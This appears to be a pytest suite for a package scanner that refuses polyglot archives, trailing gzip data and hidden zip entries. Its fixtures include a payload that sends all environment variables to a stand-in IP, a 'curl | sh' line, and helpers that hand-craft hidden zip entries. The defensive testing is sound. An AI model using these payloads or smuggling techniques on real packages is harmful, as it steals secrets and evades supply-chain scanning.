"""One file, one reading: polyglots, trailing data and hidden zip entries are refused."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest

from pycustoms.archive import UNSCANNABLE, Limits, open_package
from pycustoms.config import Policy
from pycustoms.scan import scan_target
from pycustoms.types import Decision
from tests.builders import build_sdist, build_wheel

PAYLOAD = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://203.0.113.9/c', data=repr(dict(os.environ)).encode())\n"
)


def _problems(path: Path) -> list[str]:
    reader = open_package(path, Limits())
    for _ in reader.members():
        pass
    return [f.message for f in reader.problems if f.rule == UNSCANNABLE]


def _polyglot(tmp_path: Path, name: str) -> Path:
    """A harmless gzip'd tar with a malicious wheel appended: both readers open it."""
    sdist = build_sdist(tmp_path, "harmless", "1.0", {"harmless/__init__.py": "X = 1\n"})
    wheel = build_wheel(tmp_path, "harmless", "1.0", {"harmless/__init__.py": PAYLOAD})
    path = tmp_path / name
    path.write_bytes(sdist.read_bytes() + wheel.read_bytes())
    return path


def test_gzip_tar_that_is_also_a_zip_is_refused_under_either_name(tmp_path: Path) -> None:
    as_sdist = _polyglot(tmp_path, "harmless-1.0.tar.gz")
    as_wheel = tmp_path / "harmless-1.0-py3-none-any.whl"
    as_wheel.write_bytes(as_sdist.read_bytes())
    # Both readings really exist: tar sees the harmless sdist, zip the malicious wheel.
    with zipfile.ZipFile(as_wheel) as archive:
        assert "harmless/__init__.py" in archive.namelist()
    for path in (as_sdist, as_wheel):
        result = scan_target(path, Policy())
        assert result.verdict.decision is Decision.BLOCK, path.name
        assert any(f.rule == UNSCANNABLE for f in result.verdict.findings), path.name
    assert any("polyglot" in m for m in _problems(as_sdist))
    assert any("not a zip archive" in m for m in _problems(as_wheel))


def test_zip_after_another_zip_is_refused(tmp_path: Path) -> None:
    """A reader that walks local headers from byte 0 sees the first; zipfile sees the second."""
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    first = build_wheel(tmp_path / "a", "pkg", "1.0", {"pkg/__init__.py": "X = 1\n"})
    second = build_wheel(tmp_path / "b", "pkg", "1.0", {"pkg/__init__.py": PAYLOAD})
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(first.read_bytes() + second.read_bytes())
    with zipfile.ZipFile(path) as archive:
        assert archive.read("pkg/__init__.py").decode() == PAYLOAD
    assert any("precede the first zip entry" in m for m in _problems(path))
    assert scan_target(path, Policy()).verdict.decision is Decision.BLOCK


def test_bytes_after_the_gzip_data_are_refused(tmp_path: Path) -> None:
    sdist = build_sdist(tmp_path, "tail", "1.0", {"tail/__init__.py": "X = 1\n"})
    clean = _problems(sdist)
    assert clean == []
    sdist.write_bytes(sdist.read_bytes() + b"#!/bin/sh\ncurl http://203.0.113.9 | sh\n")
    assert any("follow the gzip data" in m for m in _problems(sdist))


def test_zero_padding_and_a_second_gzip_member_are_fine(tmp_path: Path) -> None:
    sdist = build_sdist(tmp_path, "pad", "1.0", {"pad/__init__.py": "X = 1\n"})
    original = sdist.read_bytes()
    sdist.write_bytes(original + b"\0" * 4096)
    assert _problems(sdist) == []
    more = tmp_path / "more-1.0.tar.gz"
    more.write_bytes(original + gzip.compress(b"\0" * 1024))
    assert _problems(more) == []


def test_corrupt_gzip_past_the_tar_is_refused(tmp_path: Path) -> None:
    sdist = build_sdist(tmp_path, "crc", "1.0", {"crc/__init__.py": "X = 1\n"})
    data = bytearray(sdist.read_bytes())
    data[-8] ^= 0xFF  # the stored CRC-32: tar stops before it, gzip does not
    sdist.write_bytes(bytes(data))
    assert any("corrupt" in m for m in _problems(sdist))


def test_data_hidden_between_zip_entries_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("pkg/__init__.py", b"X = 1\n")
        archive.writestr("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n")
    data = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        second = archive.infolist()[1].header_offset
        start_dir = archive.start_dir
    hidden_entry = _local_entry("pkg/evil.py", PAYLOAD.encode())
    # Insert an entry no central directory lists, and shift the offsets that follow.
    patched = data[:second] + hidden_entry + data[second:]
    patched = _shift_offsets(patched, second, len(hidden_entry), start_dir)
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(patched)
    with zipfile.ZipFile(path) as archive:  # a central-directory reader sees two files
        assert len(archive.namelist()) == 2
    assert any("hidden between zip entries" in m for m in _problems(path))


def test_real_wheels_and_sdists_keep_one_reading(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "ok", "1.0", {"ok/__init__.py": "X = 1\n"})
    zipped = build_sdist(tmp_path, "okzip", "1.0", {"okzip/__init__.py": "X = 1\n"}, fmt="zip")
    tarred = build_sdist(tmp_path, "oktar", "1.0", {"oktar/__init__.py": "X = 1\n"}, fmt="tar")
    for path in (wheel, zipped, tarred):
        assert _problems(path) == [], path.name


@pytest.mark.parametrize("descriptor", [True, False])
def test_streamed_zip_with_data_descriptors_keeps_one_reading(
    tmp_path: Path, descriptor: bool
) -> None:
    # zipfile writes data descriptors when the output cannot seek.
    class Unseekable(io.RawIOBase):
        def __init__(self) -> None:
            self.data = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, b: object) -> int:
            chunk = bytes(b)  # type: ignore[call-overload]
            self.data += chunk
            return len(chunk)

    sink = Unseekable() if descriptor else io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:  # type: ignore[arg-type]
        with archive.open("pkg/__init__.py", "w") as handle:
            handle.write(b"X = 1\n" * 100)
        archive.writestr("pkg-1.0.dist-info/METADATA", b"Name: pkg\n")
    data = bytes(sink.data) if isinstance(sink, Unseekable) else sink.getvalue()
    path = tmp_path / "pkg-1.0-py3-none-any.whl"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as archive:
        assert bool(archive.infolist()[0].flag_bits & 0x08) is descriptor
    assert _problems(path) == []


def _local_entry(name: str, data: bytes) -> bytes:
    raw = name.encode()
    header = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data),
        len(raw), 0,
    )  # fmt: skip
    return header + raw + data


def _shift_offsets(data: bytes, at: int, by: int, start_dir: int) -> bytes:
    """Move central-directory offsets at or after *at* by *by* (and the directory itself)."""
    out = bytearray(data)
    position = start_dir + by
    while out[position : position + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack("<3H", out[position + 28 : position + 34])
        offset = struct.unpack("<L", out[position + 42 : position + 46])[0]
        if offset >= at:
            out[position + 42 : position + 46] = struct.pack("<L", offset + by)
        position += 46 + name_len + extra_len + comment_len
    assert out[position : position + 4] == b"PK\x05\x06"
    out[position + 16 : position + 20] = struct.pack("<L", start_dir + by)
    return bytes(out)
